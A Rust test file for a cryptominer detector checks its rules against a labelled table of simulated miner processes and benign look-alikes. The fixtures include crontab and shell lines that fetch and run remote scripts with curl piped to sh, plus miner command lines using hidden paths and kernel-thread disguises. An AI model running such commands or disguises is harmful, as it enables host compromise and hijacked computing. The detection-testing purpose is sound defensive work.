//! A labelled table of processes, infected ones and look-alikes, judged by the shipped rules.

use std::fmt::Write as _;

use deminer_worker::query::{Ownership, Process};
use deminer_worker::text::HostPath;
use proptest::prelude::*;

use super::rules::{shipped, shipped_resource};
use super::*;
use crate::example_rows::{Row, connection, starter};
use crate::starter::Place;

/// What the shipped rules say of a host.
pub(crate) fn shipped_verdict(processes: Vec<ProcessRow>, starters: Vec<Starter>, sockets: Vec<Socket>) -> Judged {
    let params = Params {
        processes,
        starters,
        units: Units::default(),
        sockets,
        pools: Vec::new(),
        indicators: Vec::new(),
        allow: Vec::new(),
        boot_id: "boot".to_owned(),
        rules: shipped_resource(),
    };
    judge(&params, &shipped(), &[]).0.output
}

fn params(rows: Vec<ProcessRow>) -> Params {
    Params {
        units: Units::default(),
        processes: rows,
        starters: vec![
            starter(
                Place::Crontab,
                "/var/spool/cron/crontabs/deploy",
                "* * * * * /tmp/.x/xmrig",
                "/tmp/.x/xmrig",
                &["/tmp/.x/xmrig"],
            ),
            starter(
                Place::Crontab,
                "/var/spool/cron/crontabs/www",
                "*/5 * * * * /var/tmp/sysd||curl -fsS 203.0.113.80/i|sh",
                "/var/tmp/sysd||curl -fsS 203.0.113.80/i|sh",
                &["/var/tmp/sysd"],
            ),
            starter(
                Place::CronD,
                "/etc/cron.d/app",
                "0 3 * * * root /opt/app/report",
                "/opt/app/report",
                &["/opt/app/report"],
            ),
            starter(
                Place::CronD,
                "/etc/cron.d/gz",
                "0 3 * * * root /usr/bin/gzip /var/log/x",
                "/usr/bin/gzip /var/log/x",
                &["/usr/bin/gzip"],
            ),
        ],
        sockets: vec![
            connection("203.0.113.9", 443, 105),
            connection("198.51.100.7", 3333, 220),
        ],
        pools: vec!["203.0.113.9".to_owned()],
        indicators: Vec::new(),
        allow: Vec::new(),
        boot_id: "boot".to_owned(),
        rules: shipped_resource(),
    }
}

const WALLET: &str = crate::wallet::EXAMPLE;
pub(crate) const EXAMPLE_WALLET: &str = WALLET;

fn table() -> Vec<(&'static str, Row, ProcessVerdict)> {
    use ProcessVerdict::{Clean, Miner, Suspect};
    let r = Row::runs;
    vec![
        // Infected.
        (
            "bare stand-in: name, place, deleted, cron, guardian",
            r(100, "/tmp/.x/xmrig", &["/tmp/.x/xmrig"])
                .deleted()
                .cpu(20)
                .child_of(101),
            Miner,
        ),
        (
            "bare stand-in, nearly idle",
            r(102, "/tmp/.x/xmrig", &["/tmp/.x/xmrig"])
                .deleted()
                .cpu(1)
                .child_of(101),
            Miner,
        ),
        (
            "renamed, with options and wallet, hidden",
            r(
                103,
                "/usr/local/lib/.sysd/sysd",
                &[
                    "sysd",
                    "-o",
                    "stratum+tcp://h:3333",
                    "-u",
                    WALLET,
                    "-k",
                    "--donate-level",
                    "1",
                    "--tls",
                ],
            )
            .cpu(196),
            Miner,
        ),
        (
            "named like a kernel thread",
            r(
                104,
                "/dev/shm/.k/kw",
                &[
                    "[kworker/u8:3]",
                    "-o",
                    "pool.supportxmr.com:443",
                    "-u",
                    WALLET,
                    "--donate-level=1",
                    "-k",
                ],
            )
            .named("kworker/u8:3")
            .deleted()
            .cpu(387),
            Miner,
        ),
        (
            "connected to the operator's pool from a temporary place",
            r(105, "/tmp/a", &["a"]).deleted().cpu(390),
            Miner,
        ),
        (
            "in memory, with a wallet and an algorithm",
            r(
                106,
                "/memfd:x",
                &["x", "-a", "rx/0", "-o", "stratum+ssl://h:1", "-u", WALLET],
            )
            .deleted()
            .cpu(100),
            Miner,
        ),
        (
            "unowned among the system's programs",
            r(
                107,
                "/usr/bin/sysupdate",
                &[
                    "sysupdate",
                    "-o",
                    "xmr.2miners.com:2222",
                    "-u",
                    WALLET,
                    "--coin=monero",
                    "-k",
                    "-p",
                    "x",
                ],
            )
            .cpu(100),
            Miner,
        ),
        (
            "name with version, pool in its arguments",
            r(
                108,
                "/opt/t/xmrig-6.21.0",
                &["xmrig", "-o", "gulf.moneroocean.stream:10128", "-u", WALLET],
            )
            .cpu(100),
            Miner,
        ),
        (
            "GPU miner",
            r(
                109,
                "/home/u/.gpu/lolMiner",
                &[
                    "lolMiner",
                    "--algo",
                    "ETCHASH",
                    "--pool",
                    "etc.2miners.com:1010",
                    "--user",
                    "0x52908400098527886E0F7030069857D2E4169EE7.rig",
                ],
            )
            .cpu(15),
            Miner,
        ),
        (
            "interpreter with a miner's script in a temporary place",
            r(
                110,
                "/usr/bin/python3.11",
                &[
                    "python3",
                    "/tmp/m.py",
                    "-o",
                    "stratum+tcp://h:1",
                    "-u",
                    WALLET,
                    "--donate-level=1",
                ],
            )
            .packaged()
            .script("/tmp/m.py")
            .named("python3")
            .cpu(100),
            Miner,
        ),
        (
            "cron line that also downloads",
            r(111, "/var/tmp/sysd", &["sysd", "-q", "-o", "stratum+tcp://h:1"]).cpu(100),
            Miner,
        ),
        (
            "kinsing's miner",
            r(112, "/tmp/kdevtmpfsi", &["/tmp/kdevtmpfsi"]).cpu(200),
            Miner,
        ),
        (
            "minergate in a temporary place",
            r(
                113,
                "/var/tmp/minergate-cli",
                &["minergate-cli", "-user", "a@b.c", "-xmr"],
            )
            .cpu(100),
            Miner,
        ),
        (
            "a distribution's own xmrig, mining",
            r(
                114,
                "/usr/bin/xmrig",
                &[
                    "xmrig",
                    "-o",
                    "pool.hashvault.pro:443",
                    "-u",
                    WALLET,
                    "--donate-level=1",
                ],
            )
            .packaged()
            .cpu(200),
            Miner,
        ),
        (
            "idle, with all its arguments",
            r(
                115,
                "/tmp/k",
                &["k", "-o", "stratum+tcp://h:1", "-u", WALLET, "--donate-level=1"],
            )
            .deleted(),
            Miner,
        ),
        // For a person.
        (
            "named and placed, idle",
            r(171, "/tmp/.x/xmrig", &["/tmp/.x/xmrig"]).cpu(1),
            Suspect,
        ),
        (
            "named and placed, idle while watched, busy before",
            r(172, "/tmp/.x/xmrig", &["/tmp/.x/xmrig"]).cpu(1).worked(7_200),
            Miner,
        ),
        (
            "unpackaged xmrig of its owner",
            r(120, "/home/user/xmrig/xmrig", &["./xmrig"]).cpu(390),
            Suspect,
        ),
        (
            "a service with a miner's arguments",
            r(121, "/opt/erp/server", &["minergate-cli -user x@y.z -xmr"]).cpu(100),
            Suspect,
        ),
        (
            "a service with everything in its arguments",
            r(
                122,
                "/opt/erp/server",
                &[
                    "xmrig",
                    "-o",
                    "stratum+tcp://pool.supportxmr.com:3333",
                    "-u",
                    WALLET,
                    "--donate-level=1",
                    "-k",
                    "-p",
                    "x",
                ],
            )
            .cpu(100),
            Suspect,
        ),
        (
            "a packaged program with everything in its arguments",
            r(
                123,
                "/usr/bin/gzip",
                &["xmrig", "-o", "stratum+tcp://h:1", "-u", WALLET, "--donate-level=1"],
            )
            .packaged()
            .cpu(100),
            Suspect,
        ),
        (
            "kernel name without anything else",
            r(124, "/opt/x/y", &["[kworker/0:1]"]).named("kworker/0:1"),
            Suspect,
        ),
        // Look-alikes.
        (
            "dataminer",
            r(200, "/opt/dataminer/dataminer", &["dataminer", "--threads", "8"]).cpu(400),
            Clean,
        ),
        (
            "gzip at work",
            r(201, "/usr/bin/gzip", &["gzip", "-9", "/srv/dump"])
                .packaged()
                .cpu(100),
            Clean,
        ),
        (
            "postgres",
            r(202, "/usr/lib/postgresql/16/bin/postgres", &["postgres: worker"])
                .packaged()
                .cpu(312),
            Clean,
        ),
        (
            "grep xmrig",
            r(203, "/usr/bin/grep", &["grep", "-r", "xmrig", "/"])
                .packaged()
                .cpu(40),
            Clean,
        ),
        (
            "grep for a pool and a wallet",
            r(
                204,
                "/usr/bin/grep",
                &["grep", "-o", "stratum+tcp://pool.supportxmr.com:3333", WALLET],
            )
            .packaged()
            .cpu(40),
            Clean,
        ),
        (
            "vim xmrig.conf",
            r(205, "/usr/bin/vim.basic", &["vim", "xmrig.conf"]).packaged(),
            Clean,
        ),
        (
            "gcc -o pool.o",
            r(206, "/usr/bin/gcc", &["gcc", "-o", "pool.o", "-c", "pool.c"])
                .packaged()
                .cpu(100),
            Clean,
        ),
        ("yes", r(207, "/usr/bin/yes", &["yes"]).packaged().cpu(100), Clean),
        (
            "own java",
            r(208, "/opt/jdk/bin/java", &["java", "-jar", "app.jar"]).cpu(380),
            Clean,
        ),
        (
            "ffmpeg",
            r(209, "/usr/bin/ffmpeg", &["ffmpeg", "-i", "a", "b"])
                .packaged()
                .cpu(390),
            Clean,
        ),
        (
            "upgraded daemon",
            r(210, "/usr/sbin/nginx", &["nginx: worker process"])
                .owned(Ownership::Owned {
                    package: "nginx".to_owned(),
                })
                .deleted()
                .cpu(30),
            Clean,
        ),
        (
            "upgraded daemon whose old content no package has",
            r(211, "/usr/sbin/sshd", &["sshd: u"]).deleted(),
            Clean,
        ),
        (
            "upgraded daemon by path",
            r(212, "/usr/sbin/cron", &["cron"])
                .owned(Ownership::Modified {
                    package: "cron".to_owned(),
                })
                .deleted()
                .cpu(20),
            Clean,
        ),
        (
            "a real kernel thread",
            r(213, "/", &[]).kernel().named("kworker/0:1").cpu(90),
            Clean,
        ),
        (
            "a build in a temporary place",
            r(214, "/tmp/go-build1/b001/exe/main", &["main"]).cpu(200),
            Clean,
        ),
        (
            "an AppImage",
            r(215, "/tmp/.mount_Kdenli/usr/bin/kdenlive", &["kdenlive"]).cpu(150),
            Clean,
        ),
        (
            "training with --algo and --user",
            r(
                216,
                "/opt/conda/bin/python3.11",
                &["python3", "train.py", "--algo", "adamw", "--user", "u", "--pass", "p"],
            )
            .cpu(800),
            Clean,
        ),
        (
            "a nightly report of its own",
            r(217, "/opt/app/report", &["/opt/app/report"]).cpu(100),
            Clean,
        ),
        (
            "editor server of a user",
            r(218, "/home/u/.vscode-server/bin/1/node", &["node", "server.js"]).cpu(60),
            Clean,
        ),
        (
            "price query",
            r(219, "/usr/bin/curl", &["curl", "https://api.nanopool.org/v1/xmr/price"]).packaged(),
            Clean,
        ),
        (
            "honest client on port 3333",
            r(220, "/opt/client/client", &["client"]).cpu(20),
            Clean,
        ),
        (
            "zpool.cache",
            r(
                221,
                "/usr/sbin/zpool",
                &["zpool", "import", "-c", "/etc/zfs/zpool.cache", "-o", "readonly=on"],
            )
            .packaged(),
            Clean,
        ),
        (
            "a shell with its login name",
            r(222, "/usr/bin/bash", &["-bash"]).packaged(),
            Clean,
        ),
        (
            "ansible's module in a temporary place",
            r(
                223,
                "/usr/bin/python3.11",
                &["python3", "/tmp/ansible_x/AnsiballZ_apt.py"],
            )
            .packaged()
            .script("/tmp/ansible_x/AnsiballZ_apt.py")
            .cpu(50),
            Clean,
        ),
        (
            "upgraded by hand",
            r(224, "/opt/app/daemon", &["daemon"]).deleted().cpu(30),
            Clean,
        ),
        (
            "a postgres that rewrites its title",
            r(225, "/usr/local/pgsql/bin/postgres", &["postgres: autovacuum launcher"]).cpu(99),
            Clean,
        ),
    ]
}

fn world() -> Vec<ProcessRow> {
    let guardian = Row::runs(101, "/usr/bin/dash", &["sh", "/tmp/.x/watch.sh"])
        .packaged()
        .script("/tmp/.x/watch.sh");
    table()
        .into_iter()
        .map(|(_, row, _)| row.build())
        .chain([guardian.build()])
        .collect()
}

#[test]
fn labelled_processes() {
    let (outcome, _) = judge(&params(world()), &shipped(), &[]);
    let mut wrong = String::new();
    for (name, row, expected) in table() {
        let pid = row.build().process.pid;
        let found = outcome.output.rows.iter().find(|row| row.row.process.pid == pid);
        let verdict = found.map_or(ProcessVerdict::Clean, |row| row.verdict);
        if verdict != expected {
            let points = found.map(|row| (row.points, row.classes.clone()));
            writeln!(wrong, "{name}: {verdict:?}, not {expected:?} {points:?}").expect("a string takes it");
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
    assert!(table().len() >= 40);
    assert_eq!(outcome.output.host, HostVerdict::Infected);
}

#[test]
fn hosts() {
    let rows = [
        ("no process at all", vec![], HostVerdict::CannotSay),
        (
            "a busy database",
            vec![
                Row::runs(1, "/usr/bin/postgres", &["postgres"])
                    .packaged()
                    .cpu(400)
                    .build(),
            ],
            HostVerdict::Clean,
        ),
        (
            "an owner's miner",
            vec![Row::runs(2, "/home/u/xmrig", &["xmrig"]).cpu(90).build()],
            HostVerdict::Suspected,
        ),
    ];
    for (name, processes, expected) in rows {
        let (outcome, because) = judge(&params(processes), &shipped(), &[]);
        assert_eq!(outcome.output.host, expected, "{name}");
        assert_eq!(because.is_empty(), expected != HostVerdict::Suspected, "{name}");
    }
}

#[test]
fn an_unreadable_executable_is_a_gap() {
    let mut row = Row::runs(9, "/x", &["x"]).build();
    row.process.exe = None;
    let (outcome, _) = judge(&params(vec![row]), &shipped(), &[]);
    assert!(outcome.coverage.material().next().is_some());
}

#[test]
fn findings_of_an_infected_host() {
    let guardian = world().pop().expect("the guardian is last");
    let rows = vec![table()[0].1.clone().build(), table()[3].1.clone().build(), guardian];
    let (outcome, because) = judge(&params(rows), &shipped(), &[]);
    let mut text = format!("host {}\n", outcome.output.host);
    for row in &outcome.output.rows {
        writeln!(
            text,
            "pid {}: {:?}, {} points ({} needed), {:?}",
            row.row.process.pid, row.verdict, row.points, row.needed, row.classes
        )
        .expect("a string takes it");
        for finding in outcome
            .findings
            .iter()
            .filter(|finding| row.findings.contains(&finding.id))
        {
            writeln!(
                text,
                "  {} {:+} {} [{} {}] {}",
                finding.id,
                finding.points,
                finding.signal,
                finding.rule.as_deref().unwrap_or("-"),
                finding.evidence[0].source,
                finding.sentence()
            )
            .expect("a string takes it");
        }
    }
    assert_eq!(because.len(), outcome.findings.len());
    insta::assert_snapshot!(text);
}

#[test]
fn judged_rows_travel() {
    let (outcome, _) = judge(&params(world()), &shipped(), &[]);
    let value = serde_json::to_value(&outcome.output).expect("rows are plain data");
    let back: Judged = serde_json::from_value(value).expect("own form reads back");
    assert_eq!(back, outcome.output);
}

proptest! {
    #[test]
    fn no_hostile_row_panics(
        argv: Vec<Vec<u8>>, path: Vec<u8>, comm: Vec<u8>, command: Vec<u8>, ppid in 0u32..4, deleted: bool, cpu: Option<u32>,
    ) {
        let mut row = Row::runs(2, "/x", &[]).build();
        row.process.ppid = ppid;
        row.process.argv = argv.into_iter().map(HostBytes::new).collect();
        row.process.comm = HostBytes::new(comm);
        row.process.cpu_centi = cpu;
        let exe = row.process.exe.as_mut().expect("a row runs a file");
        exe.path = HostPath::new(path.clone());
        exe.deleted = deleted;
        let mut parent = Row::runs(3, "/bin/sh", &["sh", "-c", ""]).packaged().build();
        parent.process.argv[2] = HostBytes::new(command.clone());
        let mut given = params(vec![row, parent]);
        given.starters[0].command = HostBytes::new(command);
        given.starters[0].starts = vec![HostPath::new(path)];
        let (outcome, _) = judge(&given, &shipped(), &[]);
        for finding in &outcome.findings {
            prop_assert!(!finding.sentence().chars().any(char::is_control));
        }
    }
}

#[test]
fn only_a_process_of_which_nothing_runs_has_ended() {
    let running = Row::runs(100, "/tmp/.x/xmrig", &["/tmp/.x/xmrig"]).deleted().build();
    let verdict = |change: fn(&mut Process)| {
        let mut row = running.clone();
        change(&mut row.process);
        let (outcome, _) = judge(&params(vec![row]), &shipped(), &[]);
        (outcome.output.host, outcome.coverage.is_whole())
    };
    type Change = fn(&mut Process);
    let cases: [(Change, (HostVerdict, bool)); 4] = [
        (|_| {}, (HostVerdict::Infected, true)),
        (
            |process| {
                process.state = "Z".to_owned();
                process.threads = 3;
            },
            (HostVerdict::Infected, true),
        ),
        (
            |process| {
                process.state = "Z".to_owned();
                process.exe = None;
            },
            (HostVerdict::Clean, true),
        ),
        (
            |process| {
                process.state = "Z".to_owned();
                process.threads = 3;
                process.argv.clear();
                process.exe = None;
            },
            (HostVerdict::Clean, false),
        ),
    ];
    for (change, expected) in cases {
        assert_eq!(verdict(change), expected);
    }
}

#[test]
fn indicators_of_an_alarm_weigh_and_never_condemn_alone() {
    let tmp = Row::runs(300, "/tmp/.cache/agent", &["agent"]);
    let quiet = Row::runs(301, "/opt/agent/agent", &["agent"]);
    let shell = Row::runs(302, "/usr/bin/dash", &["sh", "-c", "curl http://c2.example/i.sh | sh"]).packaged();
    let grep = Row::runs(303, "/usr/bin/grep", &["grep", "c2.example", "/var/log/x"]).packaged();
    let honest = Row::runs(305, "/opt/client/client", &["client", "198.51.100.7:8443"]).cpu(90);
    let owned = Row::runs(304, "/usr/bin/gzip", &["gzip"]).packaged().cpu(90);
    let digest = |path: &str| deminer_worker::text::Digest::of(path.as_bytes()).to_string();
    use ProcessVerdict::{Clean, Miner, Suspect};
    // Who runs, what the alarm names, what comes of it.
    let cases: [(&str, &Row, Vec<String>, ProcessVerdict); 10] = [
        ("nothing named", &quiet, vec![], Clean),
        (
            "its file, in a hidden temporary place, deleted and busy",
            &tmp,
            vec![digest("/tmp/.cache/agent")],
            Miner,
        ),
        (
            "its file, in an ordinary place",
            &quiet,
            vec![digest("/opt/agent/agent")],
            Suspect,
        ),
        ("another file", &quiet, vec![digest("/opt/agent/other")], Clean),
        ("a package's own file", &owned, vec![digest("/usr/bin/gzip")], Suspect),
        ("its connection", &quiet, vec!["198.51.100.0/24".to_owned()], Suspect),
        (
            "its connection at another port",
            &quiet,
            vec!["198.51.100.7:4444".to_owned()],
            Clean,
        ),
        (
            "its connection and the word for it, busy: one thing",
            &honest,
            vec!["198.51.100.7".to_owned()],
            Suspect,
        ),
        (
            "a name in its arguments",
            &shell,
            vec!["c2.example".to_owned()],
            Suspect,
        ),
        ("a name that it looks for", &grep, vec!["c2.example".to_owned()], Clean),
    ];
    for (name, row, indicators, expected) in cases {
        let mut row = row.clone().build();
        if name.contains("deleted") {
            row.process.exe.as_mut().expect("it runs a file").deleted = true;
            row.process.cpu_centi = Some(9000);
        }
        let pid = row.process.pid;
        let mut given = params(vec![row]);
        given.sockets = vec![connection("198.51.100.7", 8443, pid)];
        given.indicators = indicators;
        let (outcome, _) = judge(&given, &shipped(), &[]);
        let verdict = outcome.output.rows.first().map_or(Clean, |row| row.verdict);
        assert_eq!(verdict, expected, "{name}: {:?}", outcome.output.rows);
    }
    let mut given = params(vec![quiet.build()]);
    given.indicators = vec!["d41d8cd98f00b204e9800998ecf8427e".to_owned()];
    let (outcome, _) = judge(&given, &shipped(), &[]);
    assert_eq!(
        outcome.coverage.gaps[0].subject, "indicator",
        "what is not looked for is said"
    );
}
